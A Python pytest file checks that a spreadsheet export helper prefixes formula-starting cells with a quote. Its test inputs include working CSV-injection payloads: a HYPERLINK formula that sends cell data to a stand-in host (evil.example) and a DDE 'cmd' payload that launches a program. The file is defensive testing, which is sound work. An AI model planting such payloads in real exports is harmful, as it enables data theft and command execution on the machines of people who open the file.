"""Issue 12, finding 12: a cell that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from commonweal.ui import spreadsheets

ATTACKS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_that_could_start_a_formula_gets_a_leading_quote(value):
    buffer = io.StringIO()
    spreadsheets.writer(buffer).writerow(["name", value])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["name", "'" + value]]


@pytest.mark.parametrize("value", ["Sale Walking Group", "-3.5", "+44", "42", "", "a=b", "caf\u00e9 @ noon"])
def test_ordinary_text_and_plain_numbers_are_left_alone(value):
    assert spreadsheets.safe_cell(value) == value


def test_non_text_values_are_left_alone():
    assert [spreadsheets.safe_cell(value) for value in (-3, 2.5, None)] == [-3, 2.5, None]


def test_the_dict_writer_neutralises_values_but_not_the_header():
    buffer = io.StringIO()
    writer = spreadsheets.dict_writer(buffer, fieldnames=["id", "name"], lineterminator="\n")
    writer.writeheader()
    writer.writerows([{"id": "1", "name": "=1+1"}])
    assert buffer.getvalue() == "id,name\n1,'=1+1\n"
